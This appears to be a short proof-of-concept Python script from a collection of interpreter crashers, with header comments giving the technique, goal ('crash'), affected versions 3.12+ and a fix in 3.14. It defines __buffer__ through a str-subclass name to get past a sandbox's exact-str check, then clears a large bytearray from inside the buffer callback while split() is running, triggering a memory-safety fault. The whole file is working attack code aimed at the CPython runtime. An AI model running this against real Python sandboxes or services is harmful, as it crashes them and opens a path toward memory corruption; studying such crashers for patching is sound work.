# technique: __buffer__ set by a name of a class derived from str; it empties the bytearray that is being split
# mended: 3.14
# goal: crash
# python: 3.12+
# source: own analysis: the sandbox asks for an exact str, type.__setattr__ makes one
class Name(str):
    pass


class Separator:
    pass


def buffer(self, flags):
    text.clear()
    return memoryview(b'y')


setattr(Separator, Name('__buffer__'), buffer)
text = bytearray(1 << 25)
text.split(Separator())
